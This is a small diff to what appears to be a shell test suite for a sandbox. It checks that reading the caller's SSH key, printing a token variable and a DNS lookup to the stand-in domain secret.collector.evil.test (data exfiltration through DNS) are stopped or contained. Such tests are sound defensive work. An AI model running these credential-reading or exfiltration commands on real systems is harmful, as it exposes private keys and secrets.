@@ -26,7 +26,7 @@ main() {
     stopped "an internal host that no rule names" "403" curl -sS --fail https://docs.acme.test/hello.json
     stopped "the caller's SSH key" "No such file" cat ~/.ssh/id_ed25519
     stopped "the caller's variables" "" printenv DEMO_TOKEN
-    stays_inside "a DNS question that holds the data" getent ahosts secret.collector.evil.test
+    stays_inside "a DNS question that holds the data" getent ahostsv4 secret.collector.evil.test
     stays_inside "a DNS question to a server of its own choice" foreign_dns
     kept_apart "a git hook for the person to run" hook
 
